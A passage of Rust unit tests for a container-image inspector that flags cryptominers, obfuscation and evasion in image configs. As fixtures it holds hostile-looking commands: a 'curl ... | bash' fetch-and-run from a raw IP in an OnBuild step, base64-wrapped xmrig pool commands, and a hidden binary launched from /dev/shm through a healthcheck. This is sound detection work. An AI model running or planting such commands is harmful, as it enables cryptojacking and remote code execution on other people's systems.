            json!([{"created_by": "/bin/sh -c wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig-6.21.0-linux-static-x64.tar.gz"}]),
        ));
        assert!(
            has(&f, "miner.xmrig-download", "history[0].created_by"),
            "{f:#?}"
        );
        assert!(has(&f, "miner.name", "history[0].created_by"));
        assert!(score(&f) >= 50.0);
    }

    // --- benign look-alikes: nothing, or low scores (< 20) ---

    #[test]
    fn monero_full_node_is_not_a_miner() {
        let f = inspect(image(
            json!({"Entrypoint": ["monerod", "--rpc-bind-ip", "0.0.0.0", "--confirm-external-bind",
                                  "--p2p-bind-port", "18080", "--non-interactive"],
                   "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "MONERO_VERSION=0.18.3.1"],
                   "Labels": {"org.opencontainers.image.description": "Monero full node",
                              "org.opencontainers.image.title": "monero"},
                   "ExposedPorts": {"18080/tcp": {}, "18081/tcp": {}}}),
            json!([{"created_by": "RUN /bin/sh -c curl -fsSLO https://downloads.getmonero.org/cli/monero-linux-x64-v0.18.3.1.tar.bz2 && tar -xjf monero-linux-x64-v0.18.3.1.tar.bz2"}]),
        ));
        assert!(score(&f) < 20.0, "{f:#?}");
    }

    #[test]
    fn curl_pipe_sh_in_history_is_low() {
        let f = inspect(image(
            json!({"Cmd": ["/usr/local/bin/app"], "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"]}),
            json!([{"created_by": "/bin/sh -c #(nop) ADD file:4a4c8f8c9a1e2b3c in / "},
                   {"created_by": "RUN /bin/sh -c curl -fsSL https://get.example.com/install.sh | sh # buildkit",
                    "comment": "buildkit.dockerfile.v0"}]),
        ));
        assert_eq!(rule_ids(&f), vec!["obfuscation.download-exec"]);
        assert!(f[0].severity <= crate::inspect::Severity::Medium);
        assert!(score(&f) < 20.0, "{f:#?}");
    }

    #[test]
    fn nginx_config_is_clean() {
        let f = inspect(image(
            json!({"Entrypoint": ["/docker-entrypoint.sh"], "Cmd": ["nginx", "-g", "daemon off;"],
                   "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                           "NGINX_VERSION=1.25.3", "NJS_VERSION=0.8.2", "PKG_RELEASE=1~bookworm"],
                   "ExposedPorts": {"80/tcp": {}}, "StopSignal": "SIGQUIT",
                   "Labels": {"maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>"}}),
            json!([
                {"created_by": "/bin/sh -c #(nop) ADD file:9deb26e1dbc258df4a0ea7f2ea1cf8e1bbd1e3ec33d2a64c6a2c6c2b9d6b1ef9 in / "},
                {"created_by": "/bin/sh -c #(nop)  CMD [\"bash\"]", "empty_layer": true},
                {"created_by": "RUN /bin/sh -c set -x && groupadd --system --gid 101 nginx && useradd --system --gid nginx --no-create-home --home /nonexistent --comment \"nginx user\" --shell /bin/false --uid 101 nginx && apt-get update && apt-get install --no-install-recommends --no-install-suggests -y gnupg1 ca-certificates && NGINX_GPGKEY=573BFD6B3D8FBC641079A6ABABF5BD827BD9BF62; NGINX_GPGKEY_PATH=/usr/share/keyrings/nginx-archive-keyring.gpg; export GNUPGHOME=\"$(mktemp -d)\"; found=''; for server in hkp://keyserver.ubuntu.com:80 pgp.mit.edu ; do gpg1 --keyserver \"$server\" --keyserver-options timeout=10 --recv-keys \"$NGINX_GPGKEY\" && found=yes && break; done; gpg1 --export \"$NGINX_GPGKEY\" > \"$NGINX_GPGKEY_PATH\" ; rm -rf \"$GNUPGHOME\"; tempDir=\"$(mktemp -d)\" && chmod 777 \"$tempDir\" && cd \"$tempDir\" && apt-get source --compile nginx && ln -sf /dev/stdout /var/log/nginx/access.log && ln -sf /dev/stderr /var/log/nginx/error.log && mkdir /docker-entrypoint.d # buildkit"},
                {"created_by": "COPY docker-entrypoint.sh / # buildkit"},
                {"created_by": "COPY 10-listen-on-ipv6-by-default.sh /docker-entrypoint.d # buildkit"},
                {"created_by": "ENTRYPOINT [\"/docker-entrypoint.sh\"]", "empty_layer": true},
                {"created_by": "EXPOSE map[80/tcp:{}]", "empty_layer": true},
                {"created_by": "STOPSIGNAL SIGQUIT", "empty_layer": true},
                {"created_by": "CMD [\"nginx\" \"-g\" \"daemon off;\"]", "empty_layer": true}
            ]),
        ));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn random_base58_that_fails_the_checksum_is_ignored() {
        // 95 base58 characters starting like a mainnet address, checksum not valid.
        let mut fake = wallet(9).into_bytes();
        fake[60] = if fake[60] == b'x' { b'y' } else { b'x' };
        let fake = String::from_utf8(fake).unwrap();
        let f = inspect(image(
            json!({"Env": [format!("API_TOKEN={fake}")], "Cmd": ["/app/server", "--token", fake]}),
            json!([]),
        ));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn python_image_with_get_pip_url_is_clean() {
        let f = inspect(image(
            json!({"Cmd": ["python3"],
                   "Env": ["PATH=/usr/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                           "LANG=C.UTF-8", "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305",
                           "PYTHON_VERSION=3.12.1", "PYTHON_PIP_VERSION=23.2.1",
                           "PYTHON_GET_PIP_URL=https://github.com/pypa/get-pip/raw/4cfa4081d27285bda1220a62a5ebf5b4bd749cdb/public/get-pip.py",
                           "PYTHON_GET_PIP_SHA256=9cc01665956d22b3bf057ae8287b035827bfd895da235bcea200ab3b811790b6"]}),
            json!([{"created_by": "RUN /bin/sh -c set -eux; wget -O get-pip.py \"$PYTHON_GET_PIP_URL\"; echo \"$PYTHON_GET_PIP_SHA256 *get-pip.py\" | sha256sum -c -; export PYTHONDONTWRITEBYTECODE=1; python get-pip.py --disable-pip-version-check --no-cache-dir --no-compile \"pip==$PYTHON_PIP_VERSION\"; rm -f get-pip.py; pip --version # buildkit"},
                   {"created_by": "RUN /bin/sh -c set -eux; wget -O python.tar.xz \"https://www.python.org/ftp/python/${PYTHON_VERSION%%[a-z]*}/Python-$PYTHON_VERSION.tar.xz\"; mkdir -p /usr/src/python; tar --extract --directory /usr/src/python --strip-components=1 --file python.tar.xz # buildkit"}]),
        ));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn ordinary_tool_dirs_and_tmp_arguments_do_not_count() {
        let f = inspect(image(
            json!({"Entrypoint": ["/app/.venv/bin/uvicorn", "app:main", "--log-config", "/tmp/log.json"],
                   "Cmd": ["--pid-file", "/var/tmp/app.pid"],
                   "WorkingDir": "/app"}),
            json!([]),
        ));
        assert!(f.is_empty(), "{f:#?}");
        let f = inspect(image(
            json!({"Entrypoint": ["/usr/sbin/sshd", "-D"], "Cmd": ["/usr/bin/dockerd"]}),
            json!([]),
        ));
        assert!(f.is_empty(), "{f:#?}");
    }

    // --- details ---

    #[test]
    fn pool_hosts_match_by_label_anywhere() {
        let rules = rules();
        let insp = ConfigInspector::new(rules);
        let one = |text: &str| {
            let config = image(json!({"Env": [format!("X={text}")]}), json!([]));
            let f = insp.inspect(&serde_json::to_vec(&config).unwrap()).unwrap();
            f.into_iter()
                .find(|f| f.rule == "miner.pool-host")
                .map(|f| f.evidence.matched)
        };
        assert_eq!(
            one("cqa.minexmr.com.ru:4444").as_deref(),
            Some("cqa.minexmr.com.ru")
        );
        assert_eq!(
            one("stratum+ssl://gulf.MoneroOcean.stream:20128").as_deref(),
            Some("gulf.MoneroOcean.stream")
        );
        assert_eq!(one("user@nanopool.org.").as_deref(), Some("nanopool.org"));
        // Not a whole label, or not a host name.
        assert_eq!(one("mynanopool.org"), None);
        assert_eq!(one("nanopool"), None);
        assert_eq!(one("/opt/minexmr/bin"), None);
    }

    #[test]
    fn test_wallets_are_low_and_do_not_combine() {
        let test = make_address(
            WalletKind {
                network: Network::Stagenet,
                address: AddressType::Subaddress,
            },
            4,
        );
        let f = inspect(image(
            json!({"Cmd": ["monero-wallet-rpc", "--stagenet", "--daemon-address", "node.example:38081"],
                   "Env": [format!("DEV_ADDRESS={test}"), "POOL=pool.supportxmr.com:3333"]}),
            json!([]),
        ));
        let t = f
            .iter()
            .find(|f| f.rule == "miner.monero-test-wallet")
            .unwrap();
        assert_eq!(t.severity, crate::inspect::Severity::Low);
        assert!(t.message.contains("stagenet subaddress"), "{}", t.message);
        assert!(!rule_ids(&f).contains(&"miner.wallet-with-pool"));
        assert!(!rule_ids(&f).contains(&"miner.monero-wallet"));
    }

    #[test]
    fn wallet_with_miner_port_combines_without_a_known_pool() {
        let w = wallet(5);
        let f = inspect(image(
            json!({"Entrypoint": ["/usr/local/bin/app", "--url", "eu.some-unknown-pool.example:3333", "--user", w]}),
            json!([]),
        ));
        let combo = f
            .iter()
            .find(|f| f.rule == "miner.wallet-with-pool")
            .unwrap();
        assert_eq!(combo.place, Place::Runs);
        assert!(!rule_ids(&f).contains(&"miner.pool-host"));
    }

    #[test]
    fn nested_base64_is_followed_to_depth_three_only() {
        let core = "xmrig -o stratum+tcp://pool.example:3333";
        let depth = |n: usize| {
            let mut s = core.to_string();
            for _ in 0..n {
                s = format!("echo {} | base64 -d | sh", b64(&s));
            }
            let f = inspect(image(json!({"Cmd": ["sh", "-c", s]}), json!([])));
            f.iter().any(|f| f.rule == "miner.stratum-url")
        };
        assert!(depth(1));
        assert!(depth(3));
        assert!(!depth(4));
        let s = b64(&b64(core));
        let f = inspect(image(json!({"Env": [format!("PAYLOAD={s}")]}), json!([])));
        let stratum = f.iter().find(|f| f.rule == "miner.stratum-url").unwrap();
        assert!(stratum.message.contains("depth 2"), "{}", stratum.message);
        assert_eq!(stratum.evidence.field.as_deref(), Some("Env[0]"));
        assert_eq!(
            rule_ids(&f)
                .iter()
                .filter(|r| **r == "obfuscation.base64-payload")
                .count(),
            2
        );
    }

    #[test]
    fn harmless_base64_is_not_a_finding() {
        let s = b64("hello world, this is a perfectly boring configuration value");
        let f = inspect(image(
            json!({"Labels": {"x": s}, "Env": [format!("CFG={s}")]}),
            json!([]),
        ));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn field_names_and_places() {
        let w = wallet(6);
        let f = inspect(image(
            json!({"Labels": {"pool \"x\"": format!("{w}")}}),
            json!([{"created_by": "RUN echo"}, {"comment": format!("stratum+tcp://a.b:1 {w}")}]),
        ));
        assert!(
            has(&f, "miner.monero-wallet", "Labels[\"pool \\\"x\\\"\"]"),
            "{f:#?}"
        );
        assert!(has(&f, "miner.stratum-url", "history[1].comment"));
        assert!(f.iter().all(|f| f.place == Place::Config));
        let stratum = f.iter().find(|f| f.rule == "miner.stratum-url").unwrap();
        assert_eq!(stratum.score, 40.0);
    }

    #[test]
    fn healthcheck_runs_and_onbuild_is_judged() {
        let f = inspect(image(
            json!({"Healthcheck": {"Test": ["CMD-SHELL", "pgrep -f x || nohup /dev/shm/.s/x >/dev/null 2>&1 &"]},
                   "OnBuild": ["RUN curl -s http://198.51.100.4/i | bash"]}),
            json!([]),
        ));
        assert!(
            has(&f, "evasion.run-from-tmp", "Healthcheck.Test"),
            "{f:#?}"
        );
        assert!(f
            .iter()
            .filter(|f| f.evidence.field.as_deref() == Some("Healthcheck.Test"))
            .all(|f| f.place == Place::Runs));
        assert!(has(&f, "obfuscation.download-exec", "OnBuild[0]"));
        assert!(has(&f, "obfuscation.raw-ip-url", "OnBuild[0]"));
        let f = inspect(image(json!({"Healthcheck": {"Test": ["NONE"]}}), json!([])));
        assert!(f.is_empty());
    }

    #[test]
    fn one_finding_per_rule_and_field() {
        let f = inspect(image(
            json!({"Cmd": ["x", "stratum+tcp://a.b:1", "stratum+tcp://c.d:2", "stratum+ssl://e.f:3"]}),
            json!([]),
        ));
        assert_eq!(
            rule_ids(&f)
                .iter()
                .filter(|r| **r == "miner.stratum-url")
                .count(),
            1
        );
        // Two different wallets are two findings: each is evidence of its own.
        let f = inspect(image(
            json!({"Cmd": ["x", wallet(7), wallet(8)]}),
            json!([]),
        ));
        assert_eq!(
            rule_ids(&f)
                .iter()
                .filter(|r| **r == "miner.monero-wallet")
                .count(),
            2
        );
    }

    #[test]
    fn bad_configs_are_errors() {
        let rules = rules();
        let insp = ConfigInspector::new(rules);
        let refused = |doc: &[u8]| matches!(insp.inspect(doc), Err(ConfigError::Document(_)));
        assert!(refused(b"not json"));
        assert!(refused(
            &serde_json::to_vec(&image(json!({"Env": 3}), json!([]))).unwrap()
        ));
        // No architecture, os or rootfs: not an image config.
        assert!(refused(b"{}"));
        // A string Entrypoint: moby runs it as one argument, containerd refuses the image.
        assert!(refused(
            &serde_json::to_vec(&image(json!({"Entrypoint": "/tmp/run"}), json!([]))).unwrap()
        ));
        // What Go would read otherwise: a case variant, a key given twice.
        assert!(refused(
            &serde_json::to_vec(&image(json!({"entrypoint": ["/tmp/run"]}), json!([]))).unwrap()
        ));
        assert!(refused(br#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]},"config":{"Cmd":["/ok"],"Cmd":["/tmp/run"]}}"#));
        let big = vec![b' '; MAX_CONFIG_BYTES + 1];
        assert!(matches!(
            insp.inspect(&big),
            Err(ConfigError::TooLarge { .. })
        ));
        // Nulls and missing parts are fine.
        assert!(insp
            .inspect(
                &serde_json::to_vec(&image(
                    json!({"Entrypoint": null, "Cmd": null, "Env": null, "Labels": null}),
                    json!(null)
                ))
                .unwrap()
            )
            .unwrap()
            .is_empty());
        assert!(inspect(image(json!(null), json!(null))).is_empty());
        let f = inspect(image(json!({"Entrypoint": ["/tmp/run"]}), json!([])));
        assert_eq!(rule_ids(&f), vec!["evasion.run-from-tmp"]);
    }

    #[test]
    fn shell_words_find_what_runs() {
        let cmds = |t: &str| -> Vec<String> {
            shell_words(t)
                .into_iter()
                .filter(|w| w.command)
                .map(|w| w.text.to_string())
                .collect()
        };
        assert_eq!(
            cmds("sh -c \"nohup /tmp/x & tail -f /dev/null\""),
            ["sh", "nohup", "/tmp/x", "tail"]
        );
        assert_eq!(
            cmds("FOO=1 sudo -u app /opt/a --x /tmp/y"),
            ["sudo", "/opt/a"]
        );
        assert_eq!(cmds("gosu app /tmp/z"), ["gosu", "/tmp/z"]);
        assert_eq!(
            cmds("exec -a '[kworker/0:1]' ./m"),
            ["exec", "[kworker/0:1]", "./m"]
        );
        assert_eq!(cmds("--config /tmp/c"), Vec::<String>::new());
        assert_eq!(cmds("echo $(curl x)|bash"), ["echo", "curl", "bash"]);
        assert_eq!(
            cmds("timeout 10 python3 /tmp/a.py"),
            ["timeout", "python3", "/tmp/a.py"]
        );
    }

    #[test]
    fn run_from_tmp_follows_cd_and_workdir() {
        let f = inspect(image(
            json!({"Cmd": ["sh", "-c", "cd /dev/shm && ./a"]}),
            json!([]),
        ));
        assert!(has(&f, "evasion.run-from-tmp", "Cmd"), "{f:#?}");
        let f = inspect(image(
            json!({"Cmd": ["./a"], "WorkingDir": "/var/tmp"}),
            json!([]),
        ));
        assert!(has(&f, "evasion.run-from-tmp", "Cmd"), "{f:#?}");
        let f = inspect(image(
            json!({"Cmd": ["./a"], "WorkingDir": "/srv"}),
            json!([]),
        ));
        assert!(f.is_empty());
    }

    #[test]
    fn masquerades() {
        let names: Vec<String> = vec!["kswapd".into(), "kworker".into()];
        assert!(kernel_thread_name("/usr/bin/kswapd0", &names));
        assert!(kernel_thread_name("[kworker/0:1H]", &names));
        assert!(!kernel_thread_name("/usr/bin/kworkers", &names));
        let daemons: Vec<String> = vec!["sshd".into()];
        assert!(daemon_out_of_place("/opt/.cache/sshd", &daemons));
        assert!(daemon_out_of_place("./sshd", &daemons));
        assert!(!daemon_out_of_place("/usr/sbin/sshd", &daemons));
        assert!(!daemon_out_of_place("sshd", &daemons));
    }

    #[test]
    fn miner_names_are_whole_words() {
        let f = inspect(image(
            json!({"Cmd": ["/usr/lib/systemd/systemd-sysupdate"]}),
            json!([]),
        ));
        assert!(f.is_empty(), "{f:#?}");
        let f = inspect(image(
            json!({"Cmd": ["./xmrig-notls", "-c", "c.json"]}),
            json!([]),
        ));
        assert!(has(&f, "miner.name", "Cmd"));
        let f = inspect(image(json!({"Cmd": ["/opt/myxmrigwrapper"]}), json!([])));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn private_ip_urls_do_not_count() {
        assert!(is_public_ip_url("http://203.0.113.7"));
        assert!(is_public_ip_url("http://45.9.148.1"));
        for url in [
            "http://127.0.0.1",
            "http://10.1.2.3",
            "http://192.168.1.1",
            "http://169.254.169.254",
            "http://0.0.0.0",
            "http://999.1.1.1",
        ] {
            assert!(!is_public_ip_url(url), "{url}");
        }
    }

    #[test]
    fn every_detector_the_inspector_uses_is_in_the_builtin_pack() {
        let rules = rules();
        for name in [
            detector::MINER_NAME,
            detector::POOL_HOST,
            detector::MONERO_WALLET,
            detector::MONERO_TEST_WALLET,
            detector::WALLET_WITH_POOL,
            detector::BASE64_PAYLOAD,
            detector::RAW_IP_URL,
            detector::RUN_FROM_TMP,
            detector::RUN_FROM_HIDDEN_DIR,
            detector::HIDDEN_DIR_ALLOWLIST,
            detector::MASQUERADE,
            detector::DAEMON_MASQUERADE,
            detector::ENV_NAME,
        ] {
            assert!(rules.detector(name).is_some(), "{name}");
        }
    }
}
